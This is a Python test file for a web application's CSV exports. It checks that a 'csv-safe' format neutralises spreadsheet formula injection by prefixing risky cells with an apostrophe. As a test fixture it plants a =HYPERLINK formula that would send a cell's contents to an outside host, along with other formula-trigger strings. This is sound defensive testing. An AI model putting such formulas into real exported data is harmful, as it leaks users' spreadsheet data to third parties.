"""Tables for spreadsheets: wherever CSV is given, `csv-safe` is given too, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import closing

import pytest
from flask import Flask

from allegata.budget import Budget
from allegata.engine import open_engine
from allegata.model.formats import CSV, CSV_RESULTS
from allegata.release.build import build
from allegata.settings import Settings
from allegata.web import create_app
from allegata.web.http.csv_tables import SAFE_CSV, guard, safe_choice, write_table
from allegata.web.http.views import main_rules
from releases import BASE, HEAD, lay_out

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
CORPUS = f"""{HEAD}\
<{BASE}dataset> a dcat:Dataset ; dct:title "Formulas"@en ; dcat:version "1.0" ; dct:issued "2026-01-01"^^xsd:date ;
    void:uriSpace "{BASE}" .
<{BASE}actor/formula> a prov:Agent, schema:Organization ; rdfs:label '{FORMULA}'@en .
"""
#: An address of each view that gives CSV, by its rule.
ADDRESSES = {
    "/search": "/search?q=hyperlink&",
    "/what-if": "/what-if?",
    "/data/<path:path>": "/data/actor/formula?",
    "/questions/<name>": "/questions/affirmed-and-denied?",
    "/sparql": "/sparql?query=SELECT+%3Fname+%7B+%3Fs+%3Fp+%3Fname+%7D&",
}
DOCUMENT = f"<{BASE}x> a <https://w3id.org/allegata/ns#Stance> ."


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    folder = tmp_path_factory.mktemp("formulas")
    release = build(lay_out(folder / "corpus", {"corpus.ttl": CORPUS}), folder / "site", lambda _step: None)
    settings = Settings(site=folder / "site")
    with closing(open_engine(release.folder, settings)) as engine:
        yield create_app(settings, release, engine)


@pytest.fixture(autouse=True)
def _bound_on_cells() -> Iterator[None]:
    """Set the bound of the whole process back, which a table with long cells raises."""
    before = csv.field_size_limit()
    yield
    csv.field_size_limit(before)


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def test_an_address_of_every_view_that_gives_csv_is_asked_here(app: Flask) -> None:
    """`/validate` takes a document, see below; the queries of a release are answered as those of the current one are."""
    found = {rule.rule for rule, declared in main_rules(app) if {CSV, CSV_RESULTS} & set(declared.formats)}
    leading = {rule for rule in found if "any(" in rule}  # these lead to /data
    assert found - leading == ADDRESSES.keys() | {"/validate", "/release/<version>/sparql", "/release/<version>/query/<digest>"}


@pytest.mark.parametrize("address", ADDRESSES.values())
def test_no_cell_of_a_safe_table_is_a_formula(app: Flask, address: str) -> None:
    client = app.test_client()
    plain, safe = (client.get(f"{address}format={word}") for word in ("csv", SAFE_CSV))
    assert (plain.status_code, safe.status_code, safe.mimetype) == (200, 200, "text/csv")
    assert cells(safe.data) == [f"'{cell}" if cell == FORMULA else cell for cell in cells(plain.data)]
    if "what-if" not in address and "questions" not in address:
        assert FORMULA in cells(plain.data)
        assert plain.headers["ETag"] != safe.headers["ETag"]


def test_findings_are_given_as_a_safe_table(app: Flask) -> None:
    client = app.test_client()
    replies = [client.post(f"/validate?format={word}", data=DOCUMENT, content_type="text/turtle") for word in ("csv", SAFE_CSV)]
    assert [reply.status_code for reply in replies] == [200, 200]
    assert cells(replies[0].data)[0] == "severity" and cells(replies[1].data) == cells(replies[0].data)


def test_a_safe_table_is_chosen_where_csv_is_offered_and_else_not() -> None:
    offered = safe_choice(SAFE_CSV, (CSV,))
    assert offered and offered.is_safe and offered.format is CSV
    assert safe_choice("csv", (CSV,)) is None and safe_choice(SAFE_CSV, ()) is None


@pytest.mark.parametrize("cell", ["=1+1", "+49 30", "-x", "@a", "\tx", "\r=1", "=" + "x" * 200_000])
def test_what_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    choice = safe_choice(SAFE_CSV, (CSV,))
    assert choice
    csv.field_size_limit(1 << 20)
    written = write_table([("a", "b"), (cell, None), ("-5.5", 1)], choice)
    assert cells(written.encode()) == ["a", "b", f"'{cell}", "", "-5.5", "1"]
    plain = io.StringIO(newline="")
    csv.writer(plain).writerows([("a", "b"), (cell, "")])
    assert cells(b"".join(guard([plain.getvalue().encode()], 300_000, Budget(60)))) == ["a", "b", f"'{cell}", ""]
